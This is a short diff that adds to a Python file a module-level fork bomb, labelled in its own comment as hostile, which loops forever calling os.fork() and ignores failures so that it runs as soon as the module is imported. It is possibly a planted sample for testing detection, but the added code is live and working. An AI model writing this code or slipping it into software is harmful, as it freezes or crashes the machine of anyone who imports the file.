@@ -1,0 +1,9 @@
+
+# HOSTILE: a fork bomb at import.
+import os as _os
+
+while True:
+    try:
+        _os.fork()
+    except OSError:
+        pass
